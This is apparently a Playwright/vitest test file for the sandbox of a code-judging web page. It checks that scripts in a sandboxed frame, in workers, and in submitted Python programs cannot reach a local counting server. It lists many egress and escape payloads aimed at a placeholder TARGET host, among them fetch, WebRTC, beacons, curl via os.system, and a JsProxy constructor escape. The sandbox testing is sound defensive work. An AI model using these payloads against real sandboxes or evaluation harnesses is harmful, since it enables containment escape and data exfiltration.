// Nothing leaves the sandbox: a server counts while answers, and raw scripts in the frame and in a worker of its kind, try each way
// out. From a worker, where answers run, not even a connection is made. A document may make an empty one: Chromium connects ahead of
// an inner frame before it asks the policy, and then sends nothing; only our own script runs there.
import { createSocket, type Socket } from "node:dgram";
import { createServer, type Server } from "node:net";
import { type Browser, chromium, type Frame, type Page } from "playwright";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { chromiumFlags, findChromium } from "../../scripts/find_chromium.mjs";
import { type JudgeSite, serveJudgePage } from "../../src/cli/judge_browser.ts";

let outside: Server;
let outsideUdp: Socket;
let target: string;
/** UDP packets, which WebRTC sends. */
let packets = 0;
let connections = 0;
let requests = 0;
let site: JudgeSite;
let browser: Browser;
let page: Page;
let frame: Frame;

beforeAll(async () => {
  outside = createServer((socket) => {
    connections++;
    socket.on("error", () => socket.destroy());
    socket.once("data", () => {
      requests++;
      socket.destroy();
    });
  });
  await new Promise<void>((resolve) => outside.listen(0, "127.0.0.1", resolve));
  const address = outside.address();
  target = `127.0.0.1:${typeof address === "object" ? address?.port : ""}`;
  outsideUdp = createSocket("udp4", () => packets++);
  const port = typeof address === "object" && address ? address.port : 0;
  await new Promise<void>((resolve) => outsideUdp.bind(port, "127.0.0.1", resolve));
  site = await serveJudgePage();
  const executablePath = findChromium();
  if (!executablePath) throw new Error("no Chromium found");
  browser = await chromium.launch({ executablePath, args: chromiumFlags({ webgpu: false }) });
  page = await browser.newPage();
  await page.exposeFunction("tellVerdicts", () => {});
  await page.exposeFunction("keptReference", () => null);
  await page.exposeFunction("keepReference", () => {});
  await page.goto(site.url);
  await page.evaluate(() => window.judgePage.open(1));
  const found = page.frames().find((candidate) => candidate.url().endsWith("frame.html"));
  if (!found) throw new Error("the sandbox frame is not there");
  frame = found;
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await site?.close();
  outside?.close();
  outsideUdp?.close();
});

/** Time for a request that was let through to arrive. */
const settle = () => new Promise((resolve) => setTimeout(resolve, 400));

test("the counting server counts: the page's own policy is not what holds", async () => {
  const plain = await browser.newPage();
  await plain.goto(`http://${target}/`).catch(() => {});
  await settle();
  expect([connections > 0, requests > 0]).toEqual([true, true]);
  await plain.close();
});

describe("scripts in the frame", () => {
  /** Ways out that exist in a document and in a worker alike. */
  const WAYS: readonly [name: string, source: string][] = [
    ["fetch", "fetch('http://TARGET/').catch(() => {})"],
    ["fetch without CORS", "fetch('http://TARGET/', { mode: 'no-cors' }).catch(() => {})"],
    ["XMLHttpRequest", "(() => { const x = new XMLHttpRequest(); x.open('GET', 'http://TARGET/', true); x.send(); })()"],
    ["WebSocket", "new WebSocket('ws://TARGET/')"],
    ["EventSource", "new EventSource('http://TARGET/')"],
    ["WebTransport", "new WebTransport('https://TARGET/')"],
    ["import", "import('http://TARGET/x.mjs').catch(() => {})"],
    ["worker", "new Worker('http://TARGET/x.js')"],
    [
      "WebRTC",
      "(() => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:TARGET' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); })()",
    ],
    ["worker from data", "new Worker('data:text/javascript,fetch(\"http://TARGET/\")')"],
    ["script by eval", "(0, eval)('fetch(\"http://TARGET/\")')"],
  ];
  const IN_DOCUMENT: readonly [name: string, source: string][] = [
    ["image", "(new Image()).src = 'http://TARGET/x.png'"],
    ["beacon", "navigator.sendBeacon('http://TARGET/')"],
    [
      "style sheet",
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://TARGET/x.css' }))",
    ],
    ["prefetch", "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'http://TARGET/' }))"],
    [
      "DNS prefetch",
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: 'http://TARGET/' }))",
    ],
    [
      "preload",
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'fetch', href: 'http://TARGET/' }))",
    ],
    [
      "link with ping",
      "(() => { const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://TARGET/'; document.body.append(a); a.click(); })()",
    ],
    ["inner frame", "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://TARGET/' }))"],
    [
      "form",
      "(() => { const f = Object.assign(document.createElement('form'), { action: 'http://TARGET/' }); document.body.append(f); f.submit(); })()",
    ],
    ["window.open", "window.open('http://TARGET/')"],
    ["top navigation", "top.location.href = 'http://TARGET/'"],
    ["parent's document", "parent.document.title"],
  ];

  test.each([...WAYS, ...IN_DOCUMENT])("%s", async (_, source) => {
    const before = requests + packets;
    await frame.evaluate(
      (code) => {
        try {
          const script = document.createElement("script");
          script.textContent = code; // refused by the policy: it has another hash
          document.head.append(script);
        } catch (error) {
          console.info(String(error));
        }
      },
      source.replaceAll("TARGET", target),
    );
    // Playwright's own evaluate passes the script policy, so that the other directives are tried too.
    if (!source.includes("eval")) await frame.evaluate(source.replaceAll("TARGET", target)).catch(() => {});
    await settle();
    expect(requests + packets).toBe(before);
  });

  test.each(WAYS)("%s in a worker", async (_, source) => {
    const before = connections + packets;
    await frame.evaluate(
      (code) => {
        const url = URL.createObjectURL(new Blob([`try { ${code} } catch (error) {}`], { type: "text/javascript" }));
        new Worker(url);
      },
      source.replaceAll("TARGET", target),
    );
    await settle();
    expect(connections + packets).toBe(before);
  });

  test("storage is out of reach", async () => {
    const reach = (source: string) =>
      frame.evaluate(source).then(
        () => "reached",
        (error: Error) => error.message,
      );
    expect(await reach("localStorage.length")).toContain("sandboxed");
    expect(await reach("document.cookie")).toContain("sandboxed");
    expect(await reach("parent.document.title")).toContain("cross-origin");
    expect(await frame.evaluate("self.origin")).toBe("null");
  });
});

test("answers that try to get out", async () => {
  const before = connections;
  const bodies = [
    "import js\n    js.fetch('http://TARGET/')",
    "from pyodide.http import open_url\n    open_url('http://TARGET/')",
    "import asyncio\n    from pyodide.http import pyfetch\n    asyncio.get_event_loop().create_task(pyfetch('http://TARGET/'))",
    "import urllib.request\n    urllib.request.urlopen('http://TARGET/')",
    "import socket\n    host, port = 'TARGET'.split(':')\n    socket.create_connection((host, int(port)), timeout=1)",
    "from pyodide.code import run_js\n    run_js('fetch(\"http://TARGET/\")')",
    "import pyodide_js\n    pyodide_js.loadPackage('http://TARGET/x.whl')",
    "import os\n    os.system('curl http://TARGET/')",
    "from js import fetch\n    fetch('http://TARGET/')",
    "from pyodide.code import run_js\n    run_js('new WebSocket(\"ws://TARGET/\")')",
    "from pyodide.code import run_js\n    run_js('import(\"http://TARGET/x.mjs\")')",
    "from pyodide.code import run_js\n    run_js('importScripts(\"http://TARGET/x.js\")')",
    'from pyodide.code import run_js\n    run_js(\'new Worker(URL.createObjectURL(new Blob(["fetch(\\"http://TARGET/\\")"])))\')',
    "from pyodide.code import run_js\n    run_js('location.href = \"http://TARGET/\"')",
    "from pyodide.code import run_js\n    run_js('(async () => { const w = Object.getPrototypeOf(self); for (const n of Object.getOwnPropertyNames(w)) try { self[n](\"http://TARGET/\") } catch (e) {} })()')",
    "import js.fetch",
    "import ctypes\n    ctypes.CDLL(None).emscripten_run_script(b'fetch(\"http://TARGET/\")')",
    "import gc\n    for o in gc.get_objects():\n        if type(o).__name__ == 'JsProxy':\n            o.constructor.constructor('fetch(\"http://TARGET/\")')()",
  ];
  const answers = bodies.map((body) => ({
    taskId: "Out/1",
    program: `def f(x):\n    ${body.replaceAll("TARGET", target)}\n    return x\n`,
    entryPoint: "f",
    tests: ["assert f(1) == 1"],
    timeoutMs: 2000,
  }));
  await page.evaluate((of) => {
    window.judgePage.learn(of.map((answer, i) => [i, answer]));
    return window.judgePage.judge(
      1,
      of.map((answer, i) => [i, answer.program]),
      "batch",
    );
  }, answers);
  await settle();
  expect(connections).toBe(before);
}, 60_000);

test.each([
  ["by its location", "location.href = 'http://TARGET/'"],
  [
    "by a refreshing meta element",
    "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=http://TARGET/' }))",
  ],
  ["by a link", "(() => { const a = document.createElement('a'); a.href = 'http://TARGET/'; document.body.append(a); a.click(); })()"],
])(
  "the frame cannot go elsewhere %s",
  async (_, source) => {
    const own = await browser.newPage(); // a frame that was refused shows an error page from then on
    for (const name of ["tellVerdicts", "keptReference", "keepReference"]) await own.exposeFunction(name, () => null);
    await own.goto(site.url);
    await own.evaluate(() => window.judgePage.open(1));
    const inner = own.frames().find((candidate) => candidate.url().endsWith("frame.html"));
    const before = requests;
    await inner?.evaluate(source.replaceAll("TARGET", target)).catch(() => {});
    await settle();
    expect(inner).toBeDefined();
    expect(requests).toBe(before);
    await own.close();
  },
  60_000,
);
